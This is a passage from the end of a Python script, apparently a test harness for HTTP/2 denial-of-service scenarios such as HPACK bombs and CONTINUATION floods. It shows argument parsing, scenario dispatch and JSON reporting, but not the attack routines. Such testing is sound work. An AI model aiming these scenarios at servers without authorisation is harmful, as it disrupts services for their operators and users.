    ap.add_argument("--h1", action="store_true")
    ap.add_argument("--field-bytes", type=int, default=4000)
    ap.add_argument("--continuations", type=int, default=8)
    ap.add_argument("--variant")
    ap.add_argument("--listen-port", type=int, default=0)
    ap.add_argument("--blocks", type=int, default=2)
    ap.add_argument("--answers", type=int, default=1, help="server-hpack-expanded: requests answered")
    args = ap.parse_args()
    fn, default_wait = SCENARIOS[args.scenario]
    if args.max_wait is None:
        args.max_wait = default_wait
    if args.requests is None:
        args.requests = 3 if args.scenario == "hpack-bomb" else 2000
    if args.tls and not args.ca:
        ap.error("--tls needs --ca (and --cert/--key for mutual TLS)")
    if not args.scenario.startswith("server-") and not args.port:
        ap.error("--port is required")
    t0 = time.monotonic()
    try:
        res = fn(args)
    except Exception as e:  # noqa: BLE001 - the script failed: say so, exit 2
        traceback.print_exc()
        print(json.dumps({"scenario": args.scenario, "error": "%s: %s" % (type(e).__name__, e)}))
        sys.exit(2)
    out = {"scenario": args.scenario}
    out.update(res)
    out["elapsed_s"] = round(time.monotonic() - t0, 3)
    print(json.dumps(out, default=str))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
